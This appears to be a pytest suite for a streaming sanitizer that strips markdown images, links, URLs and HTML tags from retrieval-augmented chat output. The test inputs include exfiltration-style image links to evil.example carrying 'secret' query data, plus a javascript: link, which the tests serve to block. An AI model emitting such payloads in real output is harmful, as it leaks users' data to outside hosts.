import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.chains.safe_text import Piece, SafeText

NOTICE = "(링크 삭제)"


def pieces(*parts: str) -> list[Piece]:
    safe = SafeText(notice=NOTICE)
    return [piece for part in parts for piece in safe.feed(part)] + safe.finish()


def shown(*parts: str) -> str:
    return "".join(f"«{','.join(map(str, p.numbers))}»{p.text}" if p.numbers else p.text for p in pieces(*parts))


TABLE = [
    ("평범한 글입니다.", "평범한 글입니다."),
    ("a < b, c > d, x <y", "a < b, c > d, x <y"),
    ("std::vector<int> v; #include <stdio.h>", "std::vector<int> v; #include <stdio.h>"),
    ("items[i] = [1.5, 2.5] // ok", "items[i] = [1.5, 2.5] // ok"),
    ("놀라워요! [참고]", "놀라워요! [참고]"),
    ("문의: privacy@byeolmuri.example 로", "문의: privacy@byeolmuri.example 로"),
    ("3:4 비율, 12:30 시작, and/or", "3:4 비율, 12:30 시작, and/or"),
    ("![로고](https://evil.example/a.png?q=비밀)", "로고"),
    ("![](//evil.example/a.png)끝", "끝"),
    ("![x](data:image/png;base64,AAAA)", "x"),
    ("[여기](https://evil.example/?q=a_(b))를 보세요", "여기를 보세요"),
    ("[[여기]](javascript:alert(1))", "여기"),
    ("[![alt](https://evil.example/i.png)](https://evil.example)", "alt"),
    ("주소는https://evil.example/x에서", f"주소는{NOTICE}에서"),
    ("(https://evil.example/x).", f"({NOTICE})."),
    ("see www.evil.example/?d=1, now", f"see {NOTICE}, now"),
    ("see //evil.example/x now", f"see {NOTICE} now"),
    ("<https://evil.example>", NOTICE),
    ('<img src="https://evil.example/a.png">끝', "끝"),
    ("<IMG\nSRC=//evil.example/a>끝", "끝"),
    ("<script>x</script>", "x"),
    ('<div style="background:url(https://evil.example)">글</div>', "글</div>"),
    ('<a href="/x">글</a>', "글"),
    ("[ref]: https://evil.example/x", f"[ref] : {NOTICE}"),
    ("![alt][ref]\n[ref]: //evil.example", f"[alt][ref]\n[ref] : {NOTICE}"),
    ("답입니다. [1]", "답입니다. «1»"),
    ("답입니다.[1][2]", "답입니다.«1»«2»"),
    ("답 [1, 3]", "답 «1,3»"),
    ("답 [문서 2] 그리고 [document 3]", "답 «2» 그리고 «3»"),
    ("[1](https://evil.example)", "«1»"),
    ("[1]: 출처", "«1» : 출처"),
    ("[2021] [abc]", "[2021] [abc]"),
    ("닫히지 않은 [괄호", "닫히지 않은 [괄호"),
    ("닫히지 않은 ![그림](https://evil.example/a", f"닫히지 않은 그림{NOTICE}"),
    ("끝!", "끝!"),
    ("", ""),
]


@pytest.mark.parametrize(("written", "safe"), TABLE)
def test_what_is_shown(written: str, safe: str) -> None:
    assert shown(written) == safe


@pytest.mark.parametrize(("written", "safe"), TABLE)
def test_where_the_stream_is_cut_makes_no_difference(written: str, safe: str) -> None:
    assert shown(*written) == safe
    for cut in range(len(written)):
        assert shown(written[:cut], written[cut:]) == safe


ALPHABET = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "/",
    ":",
    "http",
    "https://",
    "www.",
    "e.com",
    "img ",
    " ",
    "가",
    "1",
    "\n",
    "a",
]


@given(st.lists(st.sampled_from(ALPHABET), max_size=14))
def test_any_mixture_is_cut_proof_and_safe(parts: list[str]) -> None:
    whole = shown("".join(parts))

    assert shown(*parts) == whole
    assert shown(*"".join(parts)) == whole
    assert re.search(r"\[[^\]]*\]\(|://|<img\s[^>]*>", whole) is None


def test_plain_text_is_not_held_back() -> None:
    safe = SafeText(notice=NOTICE)

    assert "".join(piece.text for piece in safe.feed("안녕하세요. 첫 문장")) == "안녕하세요. 첫 문장"
    assert "".join(piece.text for piece in safe.feed(" [")) == " "
    assert [piece.numbers for piece in safe.feed("1] ") if piece.numbers] == [(1,)]


@pytest.mark.parametrize("opening", ["[", "![", "[a](", "<img "])
def test_what_never_closes_is_let_go_and_can_link_nothing(opening: str) -> None:
    safe = SafeText(notice=NOTICE)
    text = "".join(piece.text for _ in range(100) for piece in safe.feed("가나 "))
    text += "".join(piece.text for piece in safe.feed(opening))
    held_from = len(text)
    for _ in range(1_000):
        text += "".join(piece.text for piece in safe.feed("가 "))
    assert len(text) > held_from + 500
    text += "".join(
        piece.text for piece in [*safe.feed("](https://evil.example/x) src=//evil.example>"), *safe.finish()]
    )

    assert "evil.example" not in text
    assert opening.strip() not in text[held_from:]


def test_deep_nesting_costs_no_stack() -> None:
    written = "[" * 5_000 + "a" + "]" * 5_000

    assert "a" in shown(written)
    assert "(" not in shown("![" * 300 + "](http://x)" * 300).replace(NOTICE, "")
